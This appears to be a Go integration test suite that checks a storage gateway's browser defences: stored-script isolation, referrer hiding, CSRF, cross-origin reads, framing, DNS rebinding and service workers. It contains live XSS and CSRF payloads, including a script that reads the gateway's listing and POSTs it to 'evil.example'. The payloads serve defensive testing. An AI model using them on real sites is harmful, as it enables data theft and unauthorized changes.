//go:build integration

package browser_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/tarn-grid/tarn/integration/nodes"
)

// weakness is what a gateway would be like that lacked some of its guards: a proxy
// takes headers out of requests and answers. Each attack is tried on the gateway,
// where it must fail, and where the guards against it are gone, where it must
// succeed, or else the attack were none.
type weakness struct{ requests, answers []string }

// weakened is the address of such a gateway, with the slash at its end.
func weakened(t *testing.T, at string, w weakness) string {
	t.Helper()
	address, _ := watched(t, at, w)
	return address
}

// watched is one that counts how often its style was asked for, as each page that is
// shown does.
func watched(t *testing.T, at string, w weakness) (address string, shown *atomic.Int64) {
	t.Helper()
	to, err := url.Parse(at)
	check(t, err)
	shown = new(atomic.Int64)
	proxy := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(to)
			for _, h := range w.requests {
				r.Out.Header.Del(h)
			}
			if r.In.URL.Path == "/style.css" {
				shown.Add(1)
			}
		},
		ModifyResponse: func(r *http.Response) error {
			for _, h := range w.answers {
				r.Header.Del(h)
			}
			return nil
		},
	}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header()["Content-Type"] = nil // none is to be guessed where the gateway's is gone
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(s.Close)
	return s.URL + "/", shown
}

// site is a hostile website, which remembers what it was asked for.
type site struct {
	url string // of a name that is not the gateway's

	mu    sync.Mutex
	asked []http.Request
	pages map[string]string
}

func newSite(t *testing.T) *site {
	t.Helper()
	s := &site{pages: map[string]string{}}
	server := httptest.NewServer(s)
	t.Cleanup(server.Close)
	port, err := url.Parse(server.URL)
	check(t, err)
	s.url = "http://evil.example:" + port.Port() + "/"
	return s
}

func (s *site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.asked = append(s.asked, *r)
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprint(w, s.pages[r.URL.Path])
}

// page puts a page on the site, and is its address.
func (s *site) page(path, text string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pages["/"+path] = "<!doctype html><title>waiting</title>" + text
	return s.url + path
}

// visits are the requests for a path so far.
func (s *site) visits(path string) []http.Request {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.DeleteFunc(slices.Clone(s.asked), func(r http.Request) bool { return r.URL.Path != "/"+path })
}

// named is where the gateway has a text under a name.
func named(t *testing.T, at, name, text string) string {
	t.Helper()
	capability := send(t, "PUT", at+"uri", text)
	return at + "named/" + url.PathEscape(capability) + "/@@named=/" + url.PathEscape(name)
}

// at is the same address at another gateway.
func moved(address, from, to string) string { return to + strings.TrimPrefix(address, from) }

// saves goes to an address, and reports whether the browser would save what is
// there. Else it is shown.
func (b *tab) saves(address string) bool {
	b.t.Helper()
	b.do(chromedp.Navigate("about:blank"))
	err := b.try(chromedp.Navigate(address))
	if err != nil && !strings.Contains(err.Error(), "net::ERR_ABORTED") {
		b.t.Fatal(err)
	}
	return err != nil
}

// What is stored never runs in the gateway's origin. It is saved and not shown;
// and if it were shown, it could do nothing.
func TestStoredContentNeverRuns(t *testing.T) {
	at := gateway(t)
	evil := newSite(t)
	b := open(t)
	shown := weakened(t, at, weakness{answers: []string{"Content-Disposition"}})
	free := weakened(t, at, weakness{answers: []string{"Content-Disposition", "Content-Security-Policy"}})
	untyped := weakened(t, at, weakness{answers: []string{"Content-Disposition", "Content-Security-Policy", "Content-Type"}})
	guessed := weakened(t, at, weakness{answers: []string{"Content-Disposition", "Content-Security-Policy", "Content-Type", "X-Content-Type-Options"}})
	for i, c := range []struct {
		name, text string // %s is the script
		saved      bool
		weak, runs string // where it must not run, and where it does
	}{
		{"a.html", `<!doctype html><script>%s</script>`, true, shown, free},
		{"a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[%s]]></script></svg>`, true, shown, free},
		{"a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[%s]]></script></head><body/></html>`, true, shown, free},
		{"a.xml", `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script><![CDATA[%s]]></h:script></x>`, true, shown, free},
		{"a.txt", `<!doctype html><script>%s</script>`, false, untyped, guessed},
		{"a.png", `<!doctype html><script>%s</script>`, false, untyped, guessed},
		{"a.pdf", `<!doctype html><script>%s</script>`, true, untyped, guessed},
		{"a.nothing", `<!doctype html><script>%s</script>`, true, untyped, guessed},
	} {
		t.Run(c.name, func(t *testing.T) {
			path := fmt.Sprintf("ran-%d", i)
			script := fmt.Sprintf(`document.documentElement.setAttribute("ran", "yes");
				fetch("/?t=json").then(r => r.text()).then(t => fetch("%s%s", {method: "POST", mode: "no-cors", body: t}))`, evil.url, path)
			file := named(t, at, c.name, fmt.Sprintf(c.text, script))
			ran := func(where string) bool {
				b.saves(moved(file, at, where))
				return evaluate[bool](b, `document.documentElement.hasAttribute("ran")`)
			}
			if saved := b.saves(file); saved != c.saved {
				t.Errorf("saved and not shown: %v, want %v", saved, c.saved)
			}
			if ran(at) || ran(c.weak) {
				t.Error("it runs")
			}
			if !ran(c.runs) {
				t.Error("it does not run where nothing keeps it from it")
			}
			nodes.Until(t, "it has read what the gateway answers", patience, func() bool { return len(evil.visits(path)) > 0 })
		})
	}
}

// No page elsewhere learns a capability: who comes from a stored page, or from a
// page of the gateway, does not say so.
func TestNoReferrer(t *testing.T) {
	at := gateway(t)
	evil := newSite(t)
	b := open(t)
	for path, missing := range map[string][]string{
		"asked":   {"Content-Disposition", "Content-Security-Policy"},
		"sandbox": {"Content-Disposition", "Referrer-Policy"},
		"leaky":   {"Content-Disposition", "Content-Security-Policy", "Referrer-Policy"},
	} {
		wish := ""
		if path != "asked" {
			wish = `<meta name="referrer" content="unsafe-url">`
		}
		file := named(t, at, "a.html", `<!doctype html>`+wish+`<a href="`+evil.url+path+`">out</a>`)
		b.saves(moved(file, at, weakened(t, at, weakness{answers: missing})))
		b.do(chromedp.Click(chromedp.CSS("a")))
		nodes.Until(t, "the link was followed", patience, func() bool { return len(evil.visits(path)) > 0 })
		referrer := evil.visits(path)[0].Referer()
		if leaks := strings.Contains(referrer, "URI"); leaks != (path == "leaky") || !leaks && referrer != "" {
			t.Errorf("%s: the other site is told %q", path, referrer)
		}
	}
	top := send(t, "POST", at+"uri?t=mkdir", "")
	b.visit(at+"uri/"+top+"/", 200)
	evaluate[string](b, `document.body.insertAdjacentHTML("beforeend", '<a id=out href="`+evil.url+`page">out</a>'), ""`)
	b.do(chromedp.Click(chromedp.CSS("#out")))
	nodes.Until(t, "the link was followed", patience, func() bool { return len(evil.visits("page")) > 0 })
	if referrer := evil.visits("page")[0].Referer(); referrer != "" && referrer != at {
		t.Errorf("from a page the other site is told %q", referrer)
	}
}

// guards are what requests say of where they come from, walls what keeps answers
// out of other sites' pages.
var (
	guards = []string{"Sec-Fetch-Site", "Sec-Fetch-Mode", "Sec-Fetch-Dest", "Origin"}
	walls  = []string{"Cross-Origin-Resource-Policy", "Cross-Origin-Opener-Policy", "X-Frame-Options", "Content-Security-Policy"}
)

// A page elsewhere changes nothing.
func TestOtherSitesChangeNothing(t *testing.T) {
	at := gateway(t)
	evil := newSite(t)
	b := open(t)
	weak := weakened(t, at, weakness{requests: guards})
	top := "uri/" + send(t, "POST", at+"uri?t=mkdir", "")
	children := func() string { return send(t, "GET", at+top+"?t=json", "") }
	for i, attack := range []string{
		`<form method=post action="%s/?t=mkdir&name=%s"></form><script>document.forms[0].submit()</script>`,
		`<form method=post enctype="multipart/form-data" action="%s/?t=uri&uri=URI:LIT:&name=%s"></form><script>document.forms[0].submit()</script>`,
		`<form method=post enctype="text/plain" action="%s/?t=set-children"><input name='{"%s": ["filenode", {"ro_uri": "URI:LIT:", "metadata": {"a' value='": 1}}]}'></form><script>document.forms[0].submit()</script>`,
		`<script>fetch("%s/?t=mkdir&name=%s", {method: "POST", mode: "no-cors"})</script>`,
		`<script>navigator.sendBeacon("%s/?t=mkdir&name=%s", "x")</script>`,
		`<form target=_blank method=post action="%s/?t=mkdir&name=%s"></form><script>document.forms[0].submit()</script>`,
	} {
		for who, where := range map[string]string{"strong": at, "weak": weak} {
			name := fmt.Sprintf("%s-%d", who, i)
			b.do(chromedp.Navigate(evil.page(name, fmt.Sprintf(attack, where+top, name))))
		}
		done := fmt.Sprintf("weak-%d", i)
		nodes.Until(t, done, patience, func() bool { return strings.Contains(children(), done) })
	}
	if strings.Contains(children(), "strong") {
		t.Errorf("a page elsewhere has changed %s", children())
	}
}

// A page elsewhere has nothing of the gateway in it, be it a picture or an answer.
func TestOtherSitesShowNothing(t *testing.T) {
	at := gateway(t)
	evil := newSite(t)
	b := open(t)
	weak := weakened(t, at, weakness{guards, walls})
	picture := named(t, at, "a.bmp", bitmap)
	for what, attack := range map[string]string{
		"picture": `<img src="%s" onload="document.title='got it'" onerror="document.title='refused'">`,
		"fetch":   `<script>fetch("%s", {mode: "no-cors"}).then(() => document.title = "got it", () => document.title = "refused")</script>`,
	} {
		for where, want := range map[string]string{at: "refused", weak: "got it"} {
			b.do(chromedp.Navigate(evil.page(what, fmt.Sprintf(attack, moved(picture, at, where)))))
			nodes.Until(t, what, patience, func() bool { return evaluate[string](b, `document.title`) != "waiting" })
			if got := evaluate[string](b, `document.title`); got != want {
				t.Errorf("%s, from %s: %s, want %s", what, where, got, want)
			}
		}
	}
}

// No page elsewhere has the gateway in a frame, in which people would click what they
// don't see.
func TestNoFrames(t *testing.T) {
	at := gateway(t)
	evil := newSite(t)
	b := open(t)
	for i, c := range []struct {
		missing weakness
		framed  bool
	}{
		{weakness{}, false},
		{weakness{guards, nil}, false},
		{weakness{guards, []string{"X-Frame-Options"}}, false},
		{weakness{guards, []string{"Content-Security-Policy"}}, false},
		{weakness{guards, walls}, true},
	} {
		where, shown := watched(t, at, c.missing)
		b.do(chromedp.Navigate(evil.page(fmt.Sprint("frame-", i), `<iframe src="`+where+`"></iframe>`)))
		if framed := shown.Load() > 0; framed != c.framed {
			t.Errorf("without %v it is in a frame: %v", c.missing, framed)
		}
	}
}

// bitmap is a picture of one pixel.
const bitmap = "BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x01\x00\x18\x00\x00\x00\x00\x00\x04\x00\x00\x00" +
	"\x13\x0b\x00\x00\x13\x0b\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\x00"

// A name of somebody else that points here reaches nothing.
func TestRebinding(t *testing.T) {
	at := gateway(t)
	b := open(t)
	u, err := url.Parse(at)
	check(t, err)
	b.visit("http://evil.example:"+u.Port()+"/", http.StatusForbidden)
	b.says("does not go by that name")
	b.visit(at, 200)
}

// A script in the gateway's origin, which there is none of, could not stay in the
// browser.
func TestNoServiceWorker(t *testing.T) {
	at := gateway(t)
	b := open(t)
	worker := named(t, at, "sw.js", `self.addEventListener("fetch", () => {})`)
	register := func(at, worker string) string {
		u, err := url.Parse(worker)
		check(t, err)
		b.visit(at, 200)
		ctx, cancel := context.WithTimeout(b.ctx, patience)
		defer cancel()
		said, err := chromedp.Run(ctx, chromedp.Evaluate[string](`navigator.serviceWorker.register("`+u.EscapedPath()+`").then(() => "registered", e => e.name)`, chromedp.EvalAwaitPromise))
		check(t, err)
		return said
	}
	if said := register(at, worker); said != "SecurityError" {
		t.Errorf("from a page: %s", said)
	}
	noPolicy := weakened(t, at, weakness{answers: walls})
	if said := register(noPolicy, moved(worker, at, noPolicy)); said == "registered" {
		t.Error("a page without a policy has registered a worker")
	}
	noGuard := weakened(t, at, weakness{[]string{"Service-Worker"}, walls})
	if said := register(noGuard, moved(worker, at, noGuard)); said != "registered" {
		t.Errorf("without any guard: %s", said)
	}
}
